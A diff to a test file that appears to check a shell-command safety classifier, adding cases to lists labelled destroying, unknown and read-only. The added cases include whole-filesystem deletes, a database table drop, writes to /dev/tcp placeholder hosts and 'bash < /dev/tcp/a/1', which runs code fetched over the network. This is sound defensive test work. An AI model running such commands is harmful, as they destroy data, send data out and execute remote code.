@@ -36,7 +36,9 @@ DESTROYS = [
     "find <<EOF . -delete\nhi\nEOF", "cat x | xargs <<EOF rm\nhi\nEOF", "bash <<'E'\n\\rm x\nE",
     "sh <<E\n\\rm x\nE", "rm() { ls; }; sh -c 'rm x'", "rm x; rm() { ls; }", "(rm() { ls; }); rm x",
     "ls && rm() { ls; }; rm x", "rm() { ls; }; sudo rm x", "rm() { ls; }; command rm x",
-    "cat() { rm \"$1\"; }; cat x",
+    "cat() { rm \"$1\"; }; cat x", "find / 2>/dev/null -delete", "rm 2>/dev/null -r x", "eval 2>&1 'rm x'",
+    "ls && find <a . -delete", "! find <a . -delete", "ls | find <a . -delete", "(find <a . -delete)",
+    "cat <<E | sh >/dev/null -x\nrm x\nE", "psql <<E >/dev/null -c 'drop table x'\nselect 1\nE",
 ]  # fmt: skip
 UNKNOWN = [
     "$x", "echo \\$(id)", "`which ls`", "./ls", "~/bin/ls", "/tmp/ls", "no-such-program", "r? x", "/bin/r[m] x",
@@ -47,6 +49,9 @@ UNKNOWN = [
     "ls \x1b[2J", "ls\r", "ls \x00", "echo $'\\'; x #'", "x=ls; x=cat; $x", "x=; ${x:-rm} y",
     "for PATH in /x; do ls; done", "ls ;; df", "read x; $x", "ssh -o ProxyCommand=x web-1 ls", "{ls,x}",
     "ls <> f", "x='a[$(rm x)]'; echo $((x))", "[[ 'a[$(rm x)]' -eq 0 ]]", "printf -v 'a[$(rm x)]' y",
+    "echo x > /dev/tcp/a/1", "cat > /dev/tcp/a/1", "cat x < /dev/null > /dev/tcp/a/1", "echo > /dev/tcp/a/1 x",
+    "cat < /dev/null > /dev/tcp/a/1 x", "exec 3<>/dev/tcp/a/1", "bash < /dev/tcp/a/1", "{ ls; } 2>/dev/null x",
+    "echo() { id; }; echo > /dev/tcp/a/1", "sh -c \"$.x\"",
 ]  # fmt: skip
 READS = [
     "ls", "ls -la | grep x", "ls > /dev/null", "ls 2>&1", "ls >&2", "ls &> /dev/null", "ls 2>/dev/null 1>&2",
@@ -58,6 +63,10 @@ READS = [
     "sudo ls", "env A=b ls", "timeout 5 ls", "nice ls", "find . -name '*.rm' -print",
     "find . -type f -exec grep x {} +", "ls | xargs -n1 cat", "ssh web-1 ls", "ssh web-1 'ls | wc'",
     "command -v rm", "echo 'ls' | sh", "x=ls; cat x", "x=ls; ${x} -l", "x=ls; ${x:-rm} -l",
+    "find / -perm -4000 2>/dev/null -exec stat -c %a {} +", "grep x 2>/dev/null f | wc -l", "ls >/dev/null 2>&1 -l",
+    "ssh web-1 </dev/null uptime", "cat <<E >/dev/null -n\nx\nE", "jq \"$.items\" f", "grep \"x$\" f",
+    "</dev/tcp/db-1/5432", "(echo > /dev/tcp/db-1/5432) 2>/dev/null && echo open",
+    "cat < /dev/null > /dev/tcp/$h/$p", ": > /dev/tcp/db-1/22", "psql -c \"select x->'$.a'\"",
     "for c in id ls; do $c; done", "for f in a b; do sort $f; done", "echo ${x:-rm}", "echo $((1+1))", "time ls",
     "LC_ALL=C ls", "KUBECONFIG=x ls", "case $x in a) ls;; *) cat x;; esac", "sudo -l", "! ls", "env",
     "alias ll='ls -l'", "trap - EXIT", "ls \\\n -l",
